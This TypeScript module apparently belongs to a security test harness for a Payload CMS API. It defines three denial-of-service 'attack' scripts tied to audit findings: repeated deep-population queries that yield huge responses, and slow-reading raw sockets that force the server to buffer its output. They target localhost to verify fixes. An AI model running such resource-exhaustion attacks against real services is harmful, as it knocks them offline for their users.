import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack, Attacker } from '../attack'

/** Deals that each name the customer whom 100,000 deals name: populated, one answer had 296 MB. */
const pathOf = ({ target }: Attacker) =>
  `/api/deals?where[customer][equals]=${target.ids.bigCustomer}&limit=500&depth=1`

export const depthFast: Attack = {
  finding: '8',
  name: 'depth-fast',
  async script(attacker) {
    const { open, repeat, send, target } = attacker
    const client = open({ key: target.keys.readerOfOne })
    await repeat(16, () => send(client, 'GET', pathOf(attacker)))
  },
}

/** Readers that take a little of their answer now and then: what is not taken must not pile up. */
export const depthSlow: Attack = {
  finding: '8',
  name: 'depth-slow',
  async script(attacker) {
    const { count, repeat, signal, target } = attacker
    const lists = [pathOf(attacker), '/api/deals?limit=500&depth=1', '/api/leads?limit=500&depth=2']
    await repeat(24, async (line, round) => {
      const socket = connect({ host: '127.0.0.1', localAddress: '127.0.0.2', port: target.port })
      socket.on('error', () => undefined)
      let text = ''
      socket.write(
        `GET ${lists[(line + round) % lists.length]} HTTP/1.1\r\nHost: localhost:${target.port}\r\n` +
          `Authorization: Bearer ${target.keys.readerOfOne}\r\nConnection: close\r\n\r\n`,
      )
      while (!signal.aborted && !socket.closed) {
        const chunk = socket.read(4096) as Buffer | null
        if (chunk !== null && text.length < 100) text += String(chunk)
        await sleep(50)
      }
      socket.destroy()
      count({
        headers: {},
        json: undefined,
        status: Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1] ?? 0),
        text: 'closed',
      })
    })
  },
}

/** Staff at depth 4 through Payload's own reads: no answer came in 300 s. */
export const staffDepth: Attack = {
  finding: '14',
  name: 'staff-depth',
  async script({ open, repeat, send, target }) {
    const { signIn } = await import('../staff')
    const client = open()
    const headers = await signIn(client, target)
    await repeat(4, (line) =>
      send(client, 'GET', `/api/leads/${target.ids.leadsOfOne[line]}?depth=4`, { headers }),
    )
  },
}
